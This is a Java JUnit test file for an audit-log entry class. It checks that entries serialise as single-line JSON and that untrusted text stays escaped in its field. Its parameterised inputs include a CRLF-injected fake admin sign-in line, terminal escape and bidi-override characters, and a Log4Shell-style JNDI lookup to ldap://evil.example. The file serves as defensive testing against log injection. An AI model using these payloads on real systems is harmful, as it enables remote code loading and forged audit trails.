package dev.crosswire.access.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.crosswire.access.http.AuditEntry.Event;
import java.time.Instant;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What strangers write stays inside its quotes, on its line. */
class AuditEntryTest {

    private static final Instant AT = Instant.parse("2026-01-06T18:30:00Z");

    @Test
    void isOneLineOfJson() {
        assertThat(new AuditEntry(AT, Event.ACTED, Optional.of("anna"), "192.0.2.1", "POST /x -> 200").line())
                .isEqualTo("{\"at\":\"2026-01-06T18:30:00Z\",\"event\":\"ACTED\",\"who\":\"anna\","
                        + "\"address\":\"192.0.2.1\",\"detail\":\"POST /x -> 200\"}");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\nb",
                "a\r\n2026-01-06 INFO audit: {\"event\":\"SIGNED_IN\",\"who\":\"admin\"}",
                "quote \" and \\ backslash",
                "\u001b[2J\u001b[31mred",
                "\u202Eturned\u2066 round",
                "\u2028line\u2029paragraph\u0085next",
                "\u0000nul\u007f",
                "invisible\u200b\ufeff",
                "\ud83d half of a pair",
                "${jndi:ldap://evil.example/a} %d{yyyy} {}"
            })
    void keepsWhateverIsWrittenInItsPlace(String text) throws Exception {
        String line = new AuditEntry(AT, Event.SIGN_IN_FAILED, Optional.of(text), text, text).line();

        assertThat(line.chars())
                .noneMatch(c -> Character.isISOControl(c)
                        || Character.getType(c) == Character.FORMAT
                        || Character.getType(c) == Character.LINE_SEPARATOR
                        || Character.getType(c) == Character.PARAGRAPH_SEPARATOR);
        JsonNode read = new ObjectMapper().readTree(line);
        assertThat(read.size()).isEqualTo(5);
        assertThat(read.get("detail").asText()).isEqualTo(text);
        assertThat(read.get("who").asText()).isEqualTo(text);
    }

    @Test
    void cutsWhatIsTooLong() {
        assertThat(new AuditEntry(AT, Event.ACTED, Optional.empty(), "", "x".repeat(9_999)).line())
                .hasSizeLessThan(6_200)
                .contains("\"who\":null");
    }
}
